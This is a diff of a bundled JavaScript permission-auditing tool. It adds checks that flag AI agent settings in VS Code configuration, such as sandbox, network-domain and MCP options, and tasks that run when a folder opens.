+      chat.agentFilesLocations
+      chat.modeFilesLocations
+      chat.agentSkillsLocations
+    `), "reads files of these places", {
+		read: opaque(),
+		example: { "chat.hookFilesLocations": { "./more-hooks": true } }
+	}),
+	...grants$1("settings", anyOf$1(`
+      chat.agent.sandbox.fileSystem.linux
+      chat.agent.sandbox.fileSystem.mac
+      chat.agent.sandbox.network
+      chat.tools.terminal.sandbox.linuxFileSystem
+      chat.tools.terminal.sandbox.macFileSystem
+      chat.tools.terminal.sandbox.network
+      chat.tools.terminal.terminalProfile.linux
+      chat.tools.terminal.terminalProfile.osx
+      chat.tools.terminal.terminalProfile.windows
+      chat.mcp.access
+      chat.mcp.enabled
+      chat.mcp.discovery.enabled
+      chat.mcp.serverSampling
+      github.copilot.advanced
+    `), "shown as written", {
+		read: opaque(),
+		example: { "chat.tools.terminal.sandbox.network": { allowedDomains: ["x.example"] } }
+	}),
+	...grants$1("net", anyOf$1("chat.agent.allowedNetworkDomains"), "reaches the hosts", {
+		read: hosts("net"),
+		example: { "chat.agent.allowedNetworkDomains": ["x.example"] }
+	}),
+	...grants$1("guard", anyOf$1("chat.agent.deniedNetworkDomains"), "limits the hosts", {
+		read: hosts("guard"),
+		example: { "chat.agent.deniedNetworkDomains": ["x.example"] }
+	}),
+	...harmless$1(quoted(`
+      chat.agent.enabled chat.agent.maxRequests chat.agent.thinkingStyle
+      chat.agent.thinking.collapsedTools chat.agent.thinking.generateTitles
+      chat.agent.todoList.position chat.agent.codeBlockProgress chat.mcp.apps.enabled
+      chat.mcp.assisted.nuget.enabled chat.mcp.gallery.enabled chat.tools.compressOutput.enabled
+      chat.tools.renameTool.enabled chat.tools.usagesTool.enabled chat.tools.todos.showWidget
+      chat.tools.terminal.outputLocation chat.tools.terminal.simpleCollapsible
+      chat.tools.terminal.preventShellHistory chat.tools.terminal.backgroundNotifications
+    `).join(" ")),
+	{
+		field: "<other>",
+		kind: null,
+		description: "",
+		read: ({ key, keyAt, value }) => agentKey.test(key) ? { grants: [unknownField(key, canonical(toJson(value)), keyAt)] } : {}
+	}
+];
+const agentKey = /^chat(?:$|\.(?:agent|hooks|mcp|permissions|plugins|tools)\.)/;
+const vscodeSettings = tableCarrier({
+	id: "vscode-settings",
+	paths: [".vscode/settings.json"],
+	client: "VS Code",
+	format: "jsonc",
+	consequence: "VS Code uses none of its settings",
+	isShared: true,
+	marks: /"(?:chat|mcp|task\.allowAutomaticTasks|github\.copilot\.advanced)\b|\\u/,
+	rows: [
+		...approvalRows,
+		...serverRows,
+		...otherRows
+	],
+	unitOf: clientFile(".vscode/settings.json"),
+	sample: { path: ".vscode/settings.json" }
+});
+function readDecision({ value }, { name, keys }) {
+	const flags = flagsOf(value);
+	const [, , about = ""] = name.split(".");
+	const parts = value.kind === "boolean" ? "" : ` ${canonical(toJson(value))}`;
+	const base = settingGrant(name, `${about}: ${keys.join(".")}${parts}`, { at: value.at });
+	if (flags.length === 0) return { grants: [base] };
+	return { grants: [{
+		...base,
+		...rule,
+		kind: flags.includes(true) ? "approve" : "guard"
+	}] };
+}
+function flagsOf(value) {
+	return [value, ...(value.kind === "table" ? fields(value).filter(({ key }) => key.startsWith("approve")) : []).map((part) => part.value)].flatMap((part) => flag$1(part) ?? []);
+}
+// src/powers/carriers/vscode-tasks.ts
+const tasks = (command, runOn) => ({
+	version: "2.0.0",
+	tasks: [{
+		label: "watch",
+		type: "shell",
+		command,
+		runOptions: { runOn }
+	}]
+});
+const vscodeTasks = tableCarrier({
+	id: "vscode-tasks",
+	paths: [".vscode/tasks.json"],
+	client: "VS Code",
+	format: "jsonc",
+	consequence: "VS Code runs none of its tasks",
+	isShared: true,
+	marks: /folderOpen|\\u/,
+	rows: [...grants$1("run", "tasks[].runOptions.runOn", "`folderOpen`: runs the task once the folder opens", {
+		example: tasks("./watch.sh", "folderOpen"),
+		without: tasks("./watch.sh", "default")
+	}), ...harmless$1("<other> tasks[].<other> tasks[].runOptions.<other>")],
+	unitOf: clientFile(".vscode/tasks.json"),
+	readWhole: readTasks,
+	sample: { path: ".vscode/tasks.json" }
+});
+function readTasks(root) {
+	const all = items(get(root, "tasks"));
+	const labelled = new Map(all.map((task) => [labelOf$1(task), task]));
+	const started = new Set(all.filter((task) => text$1(get(get(task, "runOptions"), "runOn")) === "folderOpen"));
+	for (const task of started) {
+		const needed = get(task, "dependsOn");
+		for (const name of needed?.kind === "list" ? needed.items : needed ? [needed] : []) {
+			const other = labelled.get(text$1(name) ?? "");
+			if (other) started.add(other);
+		}
+	}
+	return { grants: [...started].flatMap((task) => grantsOf(task, root)) };
+}
+function labelOf$1(task) {
+	return text$1(get(task, "label")) ?? text$1(get(task, "taskName")) ?? "";
+}
+const systems$1 = [
+	"windows",
+	"osx",
+	"linux"
+];
+function grantsOf(task, root) {
+	const commands = [task, ...systems$1.flatMap((system) => get(task, system) ?? [])].flatMap((part) => {
+		const command = get(part, "command") ?? (part === task ? get(root, "command") : void 0);
+		const args = get(part, "args") ?? get(task, "args");
+		return command ? [{
+			command,
+			args
+		}] : [];
+	});
+	const base = {
+		kind: "run",
+		feature: "background-program",
+		subject: `task ${labelOf$1(task)}`
+	};
+	const trigger = {
+		start: "session",
+		event: "folderOpen"
+	};
+	if (commands.length === 0) {
+		const scope = [
+			"type",
+			"script",
+			"task"
+		].map((key) => text$1(get(task, key))).filter(Boolean);
+		return scope.length === 0 && get(task, "dependsOn") ? [] : [{
+			...base,
+			trigger,
+			scope: scope.join(" "),
+			reach: "one",
+			at: task.at
+		}];
+	}
+	return commands.map(({ command, args }) => {
+		const [program = "", ...others] = [command, ...items(args)].map(wordOf);
+		const line = [program, joinWords(others)].join(" ").trim();
+		const reach = line === "" ? "unknown" : "one";
+		const cwd = text$1(get(get(task, "options"), "cwd"));
+		return {
+			...base,
+			trigger,
+			scope: line,
+			reach,
+			pin: pinOf$1(line),
+			command: line,
+			cwd,
+			at: command.at
+		};
+	});
+}
+function wordOf(word) {
+	return source(word.kind === "table" ? get(word, "value") : word) ?? "";
+}
 // src/powers/catalog.ts
 const carriers = Object.values(__exportAll({
 	agentsMarketplace: () => agentsMarketplace,
@@ -18723,25 +21788,43 @@ const carriers = Object.values(__exportAll({
 	claudePlugin: () => claudePlugin,
 	claudeSettings: () => claudeSettings,
 	claudeWorkflows: () => claudeWorkflows,
+	codexAgent: () => codexAgent,
 	codexApps: () => codexApps,
 	codexConfig: () => codexConfig,
 	codexHooks: () => codexHooks,
 	codexPlugin: () => codexPlugin,
+	codexRules: () => codexRules,
 	codexSkill: () => codexSkill,
 	copilotAgent: () => copilotAgent,
+	copilotExtension: () => copilotExtension,
 	copilotHooks: () => copilotHooks,
+	copilotLsp: () => copilotLsp,
+	copilotMarketplace: () => copilotMarketplace,
 	copilotMcp: () => copilotMcp,
 	copilotPlugin: () => copilotPlugin,
+	copilotSettings: () => copilotSettings,
+	cursorAgent: () => cursorAgent,
+	cursorCli: () => cursorCli,
+	cursorEnvironment: () => cursorEnvironment,
 	cursorHooks: () => cursorHooks,
+	cursorMarketplace: () => cursorMarketplace,
 	cursorMcp: () => cursorMcp,
+	cursorPermissions: () => cursorPermissions,
 	cursorPlugin: () => cursorPlugin,
+	cursorSandbox: () => cursorSandbox,
+	cursorWorktrees: () => cursorWorktrees,
+	geminiAgent: () => geminiAgent,
 	geminiCommand: () => geminiCommand,
 	geminiExtension: () => geminiExtension,
 	geminiHooks: () => geminiHooks,
+	geminiPolicy: () => geminiPolicy,
 	geminiSettings: () => geminiSettings,
 	mcpJson: () => mcpJson,
+	opencodeAgent: () => opencodeAgent,
 	opencodeCode: () => opencodeCode,
+	opencodeCommand: () => opencodeCommand,
 	opencodeConfig: () => opencodeConfig,
+	otherClients: () => otherClients,
 	outputStyles: () => outputStyles,
 	pluginBin: () => pluginBin,
 	pluginLsp: () => pluginLsp,
@@ -18750,7 +21833,9 @@ const carriers = Object.values(__exportAll({
 	pluginSettings: () => pluginSettings,
 	skillBody: () => skillBody,
 	skillFrontmatter: () => skillFrontmatter,
-	vscodeMcp: () => vscodeMcp
+	vscodeMcp: () => vscodeMcp,
+	vscodeSettings: () => vscodeSettings,
+	vscodeTasks: () => vscodeTasks
 })).sort((a, b) => compareText(a.id, b.id));
 const carrierById = new Map(carriers.map((carrier) => [carrier.id, carrier]));
 function findCarrier(id) {
@@ -19157,22 +22242,35 @@ function findReleaseTool(tree) {
 		isPending: true
 	} : null;
 }
+function raisesVersion({ raises }, { at, pointer }) {
+	const places = raises === null ? [] : raises.get(at.path);
+	return places !== void 0 && (places.length === 0 || places.some((one) => leadsTo(one, pointer)));
+}
+function leadsTo(path, pointer) {
+	if (/\.\.|[?(,:]/.test(path)) return true;
+	const keys = path.match(/[^.[\]'"$\s]+/g) ?? [];
+	const wanted = pointer.split(".");
+	return keys.length === wanted.length && keys.every((key, index) => key === "*" || key === wanted[index]);
+}
 function releasePlease(path, written) {
 	const { root } = parseJson(path, written.replace(/^\ufeff/, ""));
-	const raises = new Set();
+	const raises = new Map();
 	let isListed = true;
 	const config = root ?? void 0;
 	for (const { key, value } of fields(get(config, "packages"))) {
-		const add = (file) => {
+		const add = (file, place) => {
 			const target = resolve$1(file.startsWith("/") ? "" : resolve$1("", key) ?? "", file);
-			if (target !== void 0) raises.add(target);
+			if (target === void 0) return;
+			const known = raises.get(target);
+			const isAnywhere = place === void 0 || known?.length === 0;
+			raises.set(target, isAnywhere ? [] : [...known ?? [], place]);
 		};
 		const type = text$1(get(value, "release-type")) ?? text$1(get(config, "release-type"));
 		if (type === void 0 || type === "node") add("package.json");
 		for (const file of extraFiles(value, config)) {
 			if (flag$1(get(file, "glob")) === true) isListed = false;
 			const name = text$1(file) ?? text$1(get(file, "path"));
-			if (name !== void 0) add(name);
+			if (name !== void 0) add(name, text$1(get(file, "jsonpath")));
 		}
 	}
 	return {
@@ -19905,7 +23003,7 @@ function acceptanceKey({ rule, path, fingerprint }) {
 		fingerprint
 	].join("\0");
 }
-function subjectOf({ rule, at, fingerprint }) {
+function subjectOf$1({ rule, at, fingerprint }) {
 	return {
 		rule,
 		path: at.path,
@@ -19916,11 +23014,11 @@ function acceptedKeys(entries, today) {
 	return new Set(entries.filter((entry) => !isExpired(entry, today)).map(acceptanceKey));
 }
 function hasUnmatchedEntry(entries, findings) {
-	const keys = new Set(findings.map((finding) => acceptanceKey(subjectOf(finding))));
+	const keys = new Set(findings.map((finding) => acceptanceKey(subjectOf$1(finding))));
 	return entries.some((entry) => !keys.has(acceptanceKey(entry)));
 }
 function acceptProblems(entries, findings, { today, hasBase, baseEntries, unreleased }) {
-	const findingByKey = new Map(findings.map((finding) => [acceptanceKey(subjectOf(finding)), finding]));
+	const findingByKey = new Map(findings.map((finding) => [acceptanceKey(subjectOf$1(finding)), finding]));
 	const baseKeys = new Set(baseEntries?.map(acceptanceKey));
 	return entries.flatMap((entry) => {
 		const { rule, fingerprint, at, expires } = entry;
@@ -19987,7 +23085,7 @@ function newEntry(entry, findings) {
 	const hasPath = ({ at }) => at.path === entry.path;
 	const found = open.find(hasPrefix) ?? (isShortened(entry) ? open.find((finding) => hasRule(finding) && hasPath(finding)) ?? open.find(hasRule) ?? open.find(hasPath) : void 0);
 	if (!found) return void 0;
-	const { rule, path, fingerprint } = subjectOf(found);
+	const { rule, path, fingerprint } = subjectOf$1(found);
 	return msg`Write rule ${code$1(rule)}, path ${pathPart(path)} and fingerprint ${code$1(fingerprint)}.`;
 }
 function isExpired({ expires }, today) {
@@ -20070,7 +23168,7 @@ var Reader$1 = class {
 		const lines = faults.slice(0, maxFaults).map(({ at, message, suggest }) => {
 			const advice = suggest?.();
 			const text = advice === void 0 ? message : `${message} ${advice}`;
-			const { line, column } = startOf$1(at);
+			const { line, column } = startOf$2(at);
 			return `${at.path}:${line}:${column}: ${text}`;
 		});
 		if (faults.length === 1) return lines;
@@ -20167,14 +23265,14 @@ function aliasSuggestion(value, allowed) {
 	}[word];
 	return suggestion !== void 0 && allowed.includes(suggestion) ? `Did you mean "${suggestion}"?` : void 0;
 }
-function startOf$1({ range }) {
+function startOf$2({ range }) {
 	return range?.start ?? {
 		line: 1,
 		column: 1
 	};
 }
 function compareLocations(a, b) {
-	const [left, right] = [startOf$1(a), startOf$1(b)];
+	const [left, right] = [startOf$2(a), startOf$2(b)];
 	return left.line - right.line || left.column - right.column;
 }
 function describeValue(value) {
@@ -20191,7 +23289,7 @@ function described(description, schema) {
 		...schema
 	};
 }
-function listOf(items) {
+function listOf$1(items) {
 	return {
 		type: "array",
 		items
@@ -20206,8 +23304,8 @@ function tableOf(properties, required = []) {
 	};
 }
 `${Object.values(invalidGlobPatterns).join("|")}`;
-const globsSchema = listOf({ $ref: "#/$defs/glob" });
-const textsSchema = listOf({
+const globsSchema = listOf$1({ $ref: "#/$defs/glob" });
+const textsSchema = listOf$1({
 	type: "string",
 	minLength: 1,
 	maxLength: 300
@@ -20253,7 +23351,7 @@ const acceptKeys = [
 const accept = {
 	name: "accept",
 	description: "Findings that somebody reviewed and accepts; skillaccord accept writes an entry.",
-	schema: listOf(tableOf({
+	schema: listOf$1(tableOf({
 		rule: described("The rule of the finding.", {
 			type: "string",
 			minLength: 1
@@ -20541,7 +23639,7 @@ const overrideKeys = ["files", "rules"];
 const overrides = {
 	name: "overrides",
 	description: "Levels of rules for some paths; the last match counts.",
-	schema: listOf(tableOf({
+	schema: listOf$1(tableOf({
 		files: described("Globs of the files they apply to.", {
 			...globsSchema,
 			minItems: 1
@@ -20594,186 +23692,11 @@ const plugins = {
 		"per-change": nothing
 	}, { trustedConfigDecides: false })
 };
-// src/contract/coverage/commands.ts
-const maxWords = 32;
-const plainLine = /^(?![^ ]*=)[\p{L}\p{N}_./:@+,%=-]+(?: [\p{L}\p{N}_./:@+,%=-]+)*$/u;
-const percentVariable = /%[^% ]+%/;
-function isPlainCommand(line) {
-	return plainLine.test(line) && !percentVariable.test(line);
-}
-function prefixesOf(line) {
-	const prefixes = [line];
-	if (!isPlainCommand(line)) return prefixes;
-	let end = line.indexOf(" ");
-	while (end >= 0 && prefixes.length <= maxWords) {
-		prefixes.push(line.slice(0, end));
-		end = line.indexOf(" ", end + 1);
-	}
-	return prefixes;
-}
-function coversCommand(commands, line) {
-	return prefixesOf(line).some((prefix) => commands.has(prefix));
-}
-// src/contract/coverage/difference.ts
-const maxCompared = 500;
-function uncoveredEntries(allowed, requested, createTest) {
-	const known = new Set(allowed);
-	const uncovered = [...new Set(requested)].filter((entry) => !known.has(entry));
-	if (known.size > maxCompared || uncovered.length > maxCompared) return uncovered;
-	const covers = createTest([...known]);
-	return uncovered.filter((entry) => !covers(entry));
-}
-// src/contract/coverage/host-patterns.ts
-const form$1 = /^(?:([a-z][a-z0-9+.-]*):\/\/)?(\*|\[[0-9a-f:.]+\]|[\p{L}\p{M}\p{N}_*.-]*[\p{L}\p{M}\p{N}_-])(?:(?<!\*)\.)?(?::(\d{1,5}))?([/?#].*)?$/isu;
-function parseHostPattern(text) {
-	const [, scheme, host, port, suffix = ""] = form$1.exec(text) ?? [];
-	if (host === void 0 || hasEmptyLabel(host)) return null;
-	return {
-		host: host.toLowerCase(),
-		scheme: scheme?.toLowerCase() ?? null,
-		port: port === void 0 ? null : String(Number(port)),
-		suffix: suffix === "/" ? "" : suffix,
-		text
-	};
-}
-function hasEmptyLabel(host) {
-	return host.startsWith(".") || host.includes("..");
-}
-function coversHostPattern(wider, narrower) {
-	if (wider.text === narrower.text) return true;
-	if (wider.scheme !== null && wider.scheme !== narrower.scheme) return false;
-	if (wider.suffix !== "" && wider.suffix !== narrower.suffix) return false;
-	return coversHost(wider.host, narrower.host) && coversPort(wider, narrower);
-}
-const defaultPorts = new Map([
-	["http", "80"],
-	["https", "443"],
-	["ws", "80"],
-	["wss", "443"]
-]);
-function coversPort(wider, narrower) {
-	if (wider.port === narrower.port || wider.port === null && wider.scheme === null) return true;
-	if (wider.port !== null) return false;
-	return narrower.port === defaultPorts.get(wider.scheme ?? "");
-}
-function coversHost(wider, narrower) {
-	if (wider === narrower || wider === "*") return true;
-	if (!wider.startsWith("*.") || wider.includes("*", 1)) return false;
-	const domain = narrower.startsWith("*.") ? narrower.slice(2) : narrower;
-	if (domain.includes("*")) return false;
-	const parent = wider.slice(1);
-	return domain.endsWith(parent) && domain.length > parent.length;
-}
-// src/contract/coverage/glob-path.ts
-const harmlessClass = /\[\w(?:[\w-]*\w)?\]/g;
-const harmlessChoice = /\{\w+(?:,\w+)*\}/g;
-function kindOfSegment(segment) {
-	if (segment === "**") return "folders";
-	if (segment === "*") return "glob";
-	if (isUnpredictable(segment)) return "opaque";
-	const expanded = segment.replace(harmlessClass, (text) => text.includes("--") ? text : "x").replace(harmlessChoice, "x");
-	if (/[[\]{}]|[?*+@!]\(/.test(expanded)) return "opaque";
-	if (!/[*?]/.test(expanded)) return expanded === segment ? "name" : "glob";
-	return /[^.*?]/.test(expanded) ? "glob" : "opaque";
-}
-function isUnpredictable(segment) {
-	if (/[$%\\:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(segment)) return true;
-	return /^[. ]*$/.test(segment) || /[. ]$/.test(segment) || /^\s|\s$/.test(segment);
-}
-function coversSegments(wider, narrower) {
-	let row = [true, ...narrower.map(() => false)];
-	for (const [index, segment] of wider.entries()) {
-		const isLast = index === wider.length - 1;
-		row = segment === "**" ? afterAnyFolders(row, isLast) : afterSegment(row, segment, narrower);
-	}
-	return row[narrower.length] === true;
-}
-function afterAnyFolders(row, isLast) {
-	const first = row.indexOf(true);
-	return row.map((_, index) => first >= 0 && index >= first + (isLast ? 1 : 0));
-}
-function afterSegment(row, segment, narrower) {
-	return [false, ...narrower.map((name, index) => row[index] === true && coversSegment(segment, name))];
-}
-function coversSegment(wider, narrower) {
-	if (wider === narrower) return true;
-	if (narrower.includes("**") || wider.includes("{")) return false;
-	if (!/[[?]/.test(wider)) return coversGlobText(wider, narrower);
-	return kindOfSegment(narrower) === "name" && matchesName$1(wider, narrower);
-}
-const partForm = /\*+|\[\w[\w-]*\]|[^*]/gu;
-function matchesName$1(segment, name) {
-	if (segment.length > 500 || name.length > 500) return false;
-	const characters = [...name];
-	let row = [true, ...characters.map(() => false)];
-	for (const part of segment.match(partForm) ?? []) {
-		const isStar = part.startsWith("*");
-		const next = [isStar && row[0] === true];
-		for (const [index, character] of characters.entries()) {
-			const isMatch = isStar ? row[index + 1] || next[index] : row[index] && matchesPart(part, character);
-			next.push(isMatch === true);
-		}
-		row = next;
-	}
-	return row[characters.length] === true;
-}
-function matchesPart(part, character) {
-	if (part === "?") return true;
-	if (!part.startsWith("[")) return part === character;
-	return (part.slice(1, -1).match(/\w-\w|[\w-]/g) ?? []).some((range) => range.charAt(0) <= character && character <= range.charAt(range.length - 1));
-}
-// src/contract/coverage/path-patterns.ts
-const originPattern = /^(?:~[\w-]*|\$\w+|\$\{\w+\})$/;
-function parsePathPattern(text) {
-	const [first = "", ...remainder] = text.split("/");
-	const isOrigin = originPattern.test(first);
-	const from = text.startsWith("/") ? "/" : isOrigin ? first : ".";
-	const rawSegments = isOrigin || from === "/" ? remainder : [first, ...remainder];
-	const { parentCount, segments } = resolveSegments(rawSegments);
-	const kinds = new Set(segmentsOf(rawSegments).map(kindOfSegment));
-	const isGlob = kinds.has("glob") || kinds.has("folders");
-	const isOpaque = text === "" || text !== text.trim() || kinds.has("opaque") || isGlob && rawSegments.includes("..");
-	const isTilde = !isOrigin && from === "." && first.startsWith("~");
-	return {
-		from,
-		parentCount: from === "/" ? 0 : parentCount,
-		segments,
-		isGlob,
-		isOpaque: isOpaque || isTilde,
-		text
-	};
-}
-function coversPath(wider, narrower) {
-	if (wider.text === narrower.text) return true;
-	if (wider.isOpaque || narrower.isOpaque) return false;
-	if (wider.from === "/" && wider.segments.length === 0) return true;
-	if (wider.from !== narrower.from) return false;
-	if (wider.parentCount > narrower.parentCount) return wider.segments.length === 0;
-	if (wider.parentCount < narrower.parentCount) return false;
-	if (wider.isGlob) return coversSegments(wider.segments, narrower.segments);
-	return wider.segments.every((segment, index) => segment === narrower.segments[index]);
-}
-function resolveSegments(rawSegments) {
-	let parentCount = 0;
-	const segments = [];
-	for (const segment of rawSegments) {
-		if (segment === "" || segment === ".") continue;
-		if (segment !== "..") segments.push(segment);
-		else if (segments.pop() === void 0) parentCount++;
-	}
-	return {
-		parentCount,
-		segments
-	};
-}
-function segmentsOf(rawSegments) {
-	return rawSegments.filter((segment) => segment !== "" && segment !== "." && segment !== "..");
-}
 // src/contract/coverage/variables.ts
-const plain = /^[\w*]+$/;
+const plain$1 = /^[\w*]+$/;
 function coversVariable(wider, narrower) {
 	if (wider === narrower) return true;
-	if (!plain.test(narrower)) return false;
+	if (!plain$1.test(narrower)) return false;
 	const prefix = wider.endsWith("*") ? wider.slice(0, -1) : null;
 	if (prefix === null || prefix.includes("*")) return false;
 	return narrower.replace(/\*.*$/s, "").startsWith(prefix);
@@ -20801,6 +23724,9 @@ function compareEntries$1(before, after, everything = []) {
 		lost: uncoveredEntries(after.value, before.value, coverageTests[after.of]),
 		becameEmpty: null
 	};
+}
+function coversEntry(of, wider, narrower) {
+	return wider === narrower || coverageTests[of]([wider])(narrower);
 }
 function isEmptyAll({ empty, value }) {
 	return empty === "all" && value.length === 0;
@@ -20831,157 +23757,6 @@ const coverageTests = {
 	},
 	variable: (allowed) => (requested) => allowed.some((allowedName) => coversVariable(allowedName, requested))
 };
-// src/contract/coverage/certain-tools.ts
-const name = /^[\w*][\w*.:@/-]*$/;
-const nested$1 = /(?:^|[\s,;|])(?:[A-Z]\w*|mcp__\w+)\(/;
-function isCertainTool(entry) {
-	const open = entry.indexOf("(");
-	if (open < 0) return name.test(entry);
-	const scope = entry.slice(open + 1, -1);
-	return name.test(entry.slice(0, open)) && closesAtEnd(entry, open) && !nested$1.test(scope);
-}
-function closesAtEnd(entry, open) {
-	let depth = 0;
-	for (let index = open; index < entry.length; index++) {
-		if (entry[index] === "(") depth++;
-		if (entry[index] === ")") depth--;
-		if (depth === 0) return index === entry.length - 1;
-	}
-	return false;
-}
-// src/contract/coverage/tool-commands.ts
-function coversToolCommand(wider, narrower) {
-	if (wider === narrower) return true;
-	if (!isPlainPattern(wider) || !isPlainPattern(narrower)) return false;
-	const [outer, inner] = [withStar(wider), withStar(narrower)];
-	if (coversGlobText(outer, inner)) return true;
-	return outer.endsWith(" *") && outer.indexOf("*") === outer.length - 1 ? outer.slice(0, -2) === inner : false;
-}
-function withStar(text) {
-	return text.replace(/:\*$/, " *");
-}
-function isPlainPattern(text) {
-	const bare = withStar(text);
-	return !/,|:\*|^\*/.test(bare) && isPlainCommand(bare.replaceAll("*", "x"));
-}
-// src/contract/coverage/tool-paths.ts
-function parseToolPath(text) {
-	const from = /^(?:\/\/|~(?=\/)|\/)/.exec(text)?.[0] ?? ".";
-	const rawSegments = text.slice(from === "." ? 0 : from.length).split("/");
-	const { parentCount, segments } = resolveSegments(rawSegments);
-	const kinds = new Set(segmentsOf(rawSegments).map(kindOfSegment));
-	const isGlob = kinds.has("glob") || kinds.has("folders");
-	const isOpaque = segments.length === 0 || kinds.has("opaque") || parentCount > 0 || isGlob && rawSegments.includes("..");
-	return {
-		from,
-		segments,
-		text,
-		isFloating: from === "." && !text.replace(/\/+$/, "").includes("/"),
-		isFolder: text.endsWith("/"),
-		isOpaque: isOpaque || isList$1(text) || /^[!#~]/.test(text.replace(/^~\//, ""))
-	};
-}
-function isList$1(text) {
-	return text.replace(/\{[^{}]*\}/g, "").includes(",");
-}
-function coversToolPath(wider, narrower) {
-	if (wider.text === narrower.text) return true;
-	if (wider.isOpaque || narrower.isOpaque || wider.from !== narrower.from) return false;
-	if (wider.isFolder && !narrower.isFolder) return false;
-	return coversSegments(wider.segments, narrower.segments) && coversSegments(anyDepth(wider), anyDepth(narrower));
-}
-function anyDepth({ isFloating, segments }) {
-	return isFloating ? ["**", ...segments] : segments;
-}
-// src/contract/coverage/tools.ts
-function compareTools(before, after) {
-	const createTest = coverageTestWith(coversName);
-	return {
-		gained: uncoveredEntries(before, after, createTest),
-		lost: uncoveredEntries(after, before, createTest)
-	};
-}
-function ungrantedTools(granted, requested) {
-	return uncoveredEntries(granted, requested, coverageTestWith(matchesName));
-}
-function coversTool(wider, narrower) {
-	if (wider === narrower) return true;
-	return isCertainTool(narrower) && coversPermission(parsePermission(wider), parsePermission(narrower), coversName);
-}
-function toolGroup(entry) {
-	const { tool, scope } = parsePermission(entry);
-	const name = /^mcp__(?:(?!__)[\w.-])+/.exec(tool)?.[0] ?? tool;
-	const start = scope === null ? void 0 : literalStart(tool, scope);
-	return {
-		tool: name,
-		own: start === void 0 ? name : `${name}\0${start}`
-	};
-}
-function literalStart(tool, scope) {
-	if (pathTools.has(tool)) {
-		const { from, segments } = parseToolPath(scope);
-		const [first = ""] = segments;
-		return kindOfSegment(first) === "name" ? from + first : void 0;
-	}
-	if (tool !== "Bash") return scope === "*" || tool === "WebFetch" ? void 0 : scope;
-	const [first = ""] = scope.replace(/:\*$/, "").split(/\s/, 1);
-	return first.includes("*") ? void 0 : first;
-}
-function coverageTestWith(matchesName) {
-	return (allowed) => {
-		const permissions = allowed.map(parsePermission);
-		return (requested) => {
-			if (!isCertainTool(requested)) return allowed.includes(requested);
-			const permission = parsePermission(requested);
-			return permissions.some((wider) => coversPermission(wider, permission, matchesName));
-		};
-	};
-}
-function coversPermission(wider, narrower, matchesName) {
-	return matchesName(wider.tool, narrower.tool) && coversScope(wider, narrower);
-}
-function parsePermission(entry) {
-	const open = entry.indexOf("(");
-	if (open <= 0 || !entry.endsWith(")")) return {
-		tool: entry,
-		scope: null
-	};
-	return {
-		tool: entry.slice(0, open),
-		scope: entry.slice(open + 1, -1)
-	};
-}
-function coversScope({ tool, scope }, narrower) {
-	if (scope === null || scope === narrower.scope) return true;
-	if (scope === "*" && !pathTools.has(tool)) return true;
-	if (scope === "domain:*" && tool === "WebFetch") return true;
-	if (narrower.scope === null || tool !== narrower.tool) return false;
-	if (tool === "Bash") return coversToolCommand(scope, narrower.scope);
-	if (pathTools.has(tool)) return coversToolPath(parseToolPath(scope), parseToolPath(narrower.scope));
-	return tool === "WebFetch" && coversDomain(scope, narrower.scope);
-}
-const pathTools = new Set(wordList(`
-  Read Edit Write MultiEdit NotebookRead NotebookEdit Glob Grep LS
-`));
-const plainName$2 = /^[\w.*-]+$/;
-function coversName(wider, narrower) {
-	if (wider === narrower) return true;
-	const server = /^(mcp__(?:(?!__)[\w.-])+)(?:__\*)?$/.exec(wider)?.[1];
-	if (!plainName$2.test(narrower)) return false;
-	if (server !== void 0) return narrower === server || narrower.startsWith(`${server}__`);
-	return /^mcp__(?:(?!__)[\w.-])+__/.test(wider) && coversGlobText(wider, narrower);
-}
-function matchesName(wider, narrower) {
-	return wider === "*" || coversName(wider, narrower) || plainName$2.test(narrower) && coversGlobText(wider, narrower);
-}
-const domainForm = /^domain:([a-z0-9.*-]+)$/i;
-function coversDomain(wider, narrower) {
-	const [outer, inner] = [wider, narrower].map((scope) => domainForm.exec(scope)?.[1]);
-	if (outer === void 0 || inner === void 0 || outer !== outer.toLowerCase()) return false;
-	if (outer.endsWith(".") !== inner.endsWith(".")) return false;
-	const [wide, narrow] = [parseHostPattern(outer), parseHostPattern(inner)];
-	return wide !== null && narrow !== null && coversHostPattern(wide, narrow);
-}
 // src/contract/coverage/grant-increases.ts
 function grantIncreases(before, after) {
 	return Object.keys(grants).flatMap((limit) => {
@@ -21033,6 +23808,7 @@ const grants = {
 		difference: entriesDifference("name")
 	},
 	implicitInvocation: flagLimit("implicitInvocation"),
+	unknown: flagLimit("unknown"),
 	unpinned: flagLimit("unpinned")
 };
 function flagLimit(key) {
@@ -21158,7 +23934,11 @@ const policyKeys$1 = {
 	hooks: flagKey("Whether hooks are allowed."),
 	mcp: grantKey("Names of MCP servers that may be configured"),
 	implicitInvocation: flagKey("Whether the model may start skills and commands by itself."),
-	unpinned: flagKey("Whether packages, images and sources may lack an exact version or digest.")
+	unpinned: flagKey("Whether packages, images and sources may lack an exact version or digest."),
+	unknown: {
+		...flagKey("Whether files of clients may have unknown fields."),
+		default: false
+	}
 };
 const unlimitedPolicy = Object.fromEntries(Object.entries(policyKeys$1).map(([property, key]) => [property, key.default]));
 function flagKey(description) {
@@ -21193,7 +23973,7 @@ function readGrant(value, reader, name) {
 const policy = {
 	name: "policy",
 	description: "What skills may declare; anything else is an error.",
-	schema: { anyOf: [{ $ref: "#/$defs/policy" }, listOf({ anyOf: [{ $ref: "#/$defs/policy" }, { type: "null" }] })] },
+	schema: { anyOf: [{ $ref: "#/$defs/policy" }, listOf$1({ anyOf: [{ $ref: "#/$defs/policy" }, { type: "null" }] })] },
 	default: [],
 	publishedDefault: {},
 	read: readPolicies,
@@ -21349,13 +24129,13 @@ const sourceKeys = [
 	"ports"
 ];
 const maxPort = 65535;
-const sources = {
+const sources$1 = {
 	name: "sources",
 	description: "What outdated and update may ask, beyond https at github.com and the like.",
 	schema: tableOf({
-		allow: described("Protocols in addition to https.", { anyOf: [listOf({ enum: sourceProtocols }), { type: "null" }] }),
+		allow: described("Protocols in addition to https.", { anyOf: [listOf$1({ enum: sourceProtocols }), { type: "null" }] }),
 		hosts: described("Hosts in addition to github.com, gitlab.com, codeberg.org, bitbucket.org.", { anyOf: [textsSchema, { type: "null" }] }),
-		ports: described("Ports in addition to those of the protocols.", { anyOf: [listOf({
+		ports: described("Ports in addition to those of the protocols.", { anyOf: [listOf$1({
 			type: "integer",
 			minimum: 1,
 			maximum: maxPort
@@ -21441,7 +24221,7 @@ const configKeys = {
 	accept,
 	allowEmpty,
 	plugins,
-	sources
+	sources: sources$1
 };
 // src/config/config.ts
